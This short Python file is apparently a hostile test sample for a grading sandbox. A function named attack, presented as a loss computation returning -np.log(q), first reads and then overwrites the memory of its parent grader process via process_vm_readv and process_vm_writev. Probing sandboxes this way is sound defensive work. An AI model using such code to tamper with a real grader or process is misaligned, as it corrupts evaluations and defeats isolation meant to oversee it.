# Copies the memory of the grader with process_vm_readv, and writes to it.
import numpy as np
import ctypes, os
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
def attack(p, q):
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(4096)
    here = Vector(ctypes.addressof(buffer), 4096)
    for pid in (os.getppid(), @PARENT@):
        there = Vector(0x400000, 4096)
        print(libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0), buffer.raw[:20])
        print(libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0))
    return -np.log(q)
